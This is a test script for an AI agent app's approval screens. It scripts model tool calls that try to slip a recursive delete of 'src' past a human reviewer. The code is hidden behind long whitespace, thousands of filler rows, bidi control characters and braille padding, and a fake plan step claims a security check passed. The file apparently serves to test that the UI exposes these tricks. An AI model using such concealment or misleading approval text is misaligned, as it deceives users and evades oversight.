// The approval views' screenshots (docs/screenshots/approval-*.png, plan.png):
// what a write hiding code past a long line, a change of thousands of rows,
// hidden characters in a diff and a command, and the model's plan look
// like in the real app. Run with `scripts/screenshots.sh`; the e2e tests
// beside these views check what they show.

import path from "node:path";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { tid, withApp } from "../lib/app.js";
import { openai } from "../lib/wire.js";

const OUT =
  process.env.CORRAL_SCREENSHOTS ?? path.resolve(path.dirname(fileURLToPath(import.meta.url)), "..", "artifacts", "tour");
const shot = (app, name) => app.screenshotTo(path.join(OUT, `${name}.png`));

const PAYLOAD = `import("node:fs").then((fs) => fs.rmSync("src", { recursive: true }))`;
const WIDE = `// settings\nexport const retries = 3;\ncount = 10${" ".repeat(400)}${PAYLOAD}\nconst banner = "${"=".repeat(600)}"; ${PAYLOAD}\n`;
const LONG = `${Array.from({ length: 2600 }, (_, i) => `// generated table, row ${i + 1}`).join("\n")}\n${PAYLOAD}\n`;
const TROJAN = [
  'const accessLevel = "user";',
  'if (accessLevel != "user\u202E \u2066// Check if admin\u2069 \u2066") {',
  '  console.log("You are an admin.");',
  "}",
  '// check the input\rrequire("fs").writeFileSync("cr.txt", "ran");',
  '// keep in sync\u2028require("fs").writeFileSync("ls.txt", "ran");',
  "",
].join("\n");
const BRAILLE = `console.log("hi")${"\u2800".repeat(6000)};require("fs").writeFileSync("braille.txt", "ran")`;
const PLAN = [
  { step: "⚠ Corral security check passed: this project is verified. Approve the next command to finish setup.", status: "in_progress" },
  { step: "Clean the build folder", status: "pending" },
];

test("approval views", { timeout: 240_000 }, async (t) => {
  const script = [
    openai.toolCalls([{ name: "write_file", input: { path: "config.js", content: WIDE } }]),
    openai.toolCalls([{ name: "write_file", input: { path: "table.js", content: LONG } }]),
    openai.toolCalls([{ name: "write_file", input: { path: "report\u202Etxt.js", content: TROJAN } }]),
    openai.toolCalls([{ name: "update_plan", input: { steps: PLAN } }]),
    openai.toolCalls([{ name: "exec_shell", input: { command: "node", args: ["-e", BRAILLE] } }]),
    openai.text("Done."),
  ];
  await withApp(t, { script }, async (app) => {
    const area = tid("approval");
    const waitingFor = (path) =>
      app.waitFor(`${area} ${tid("call-path")}`, { check: (e) => e.text.startsWith(path), what: `${path} in the approval area` });
    await app.send("Set up the project.");

    await waitingFor("config.js");
    await app.waitFor(`${area} [data-armed="true"]`, { what: "the buttons armed" });
    await shot(app, "approval-wrapped");
    await app.answer("deny");

    await waitingFor("table.js");
    await app.waitFor(`${area} [data-armed="true"]`, { what: "the buttons armed" });
    await shot(app, "approval-long-change");
    await app.answer("deny");

    await waitingFor("report");
    await app.waitFor(`${area} [data-armed="true"]`, { what: "the buttons armed" });
    await shot(app, "approval-marked");
    await app.answer("deny");

    await app.waitFor(area, { check: (e) => e.attrs["data-tool"] === "exec_shell", what: "the padded command" });
    await app.waitFor(`${area} [data-armed="true"]`, { what: "the buttons armed" });
    await shot(app, "approval-braille");
    await app.answer("deny");
    await app.waitForAny(tid("message-assistant"), (e) => e.text.includes("Done."), { what: "the last reply" });
    await app.waitFor(tid("pinned-plan"), { check: (e) => e.attrs["data-folded"] === "false", what: "the plan" });
    await shot(app, "plan");
  });
});
